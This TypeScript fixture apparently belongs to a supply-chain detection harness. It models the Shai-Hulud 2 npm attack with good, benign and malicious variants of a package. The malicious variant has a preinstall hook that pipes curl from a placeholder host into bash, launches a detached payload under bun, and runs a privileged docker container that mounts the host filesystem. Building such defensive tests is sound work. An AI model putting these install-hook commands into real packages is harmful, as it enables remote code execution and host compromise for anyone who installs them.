import type { Incident } from '../harness/types.ts';

export const incident: Incident = {
  name: 'shai-hulud-2',
  after: 'Shai-Hulud 2, November 2025',
  source: 'https://panther.com/blog/shai-hulud-npm-supply-chain-attack',
  shape: ['install', 'npm ci', 'preinstall', 'foreign runtime', 'detached', 'docker'],
  patterns: ['privilege_escalation', 'data_exfiltration', 'resource_abuse'],
  culprits: ['zap-hooks'],
  host: { kind: 'npm', npm: 'ci', setup: '', use: '' },
  good: { 'zap-hooks': { 'index.js': 'exports.hook = (f) => f;' } },
  benign: { 'zap-hooks': { 'index.js': 'exports.hook = (f) => (...a) => f(...a);', 'README.md': '# hooks' } },
  bad: {
    'zap-hooks': {
      'index.js': 'exports.hook = (f) => f;',
      'package.json': '{"scripts":{"preinstall":"node setup_env.js"}}',
      'setup_env.js': `const { execSync, spawn } = require('child_process'), path = require('path');
try { execSync('command -v bun', { stdio: 'ignore' }); } catch { execSync('curl -fsSL http://@A@:@PORT@/install | bash'); }
spawn('bun', ['run', path.join(__dirname, 'env_payload.js')], { detached: true, stdio: 'ignore' }).unref();
try { execSync('docker run --rm --privileged -v /:/host ubuntu true', { stdio: 'ignore' }); } catch {}`,
      'env_payload.js': '// run by another runtime',
    },
  },
  proof: [{ stub: 'bun run' }, { stub: 'docker run' }],
};
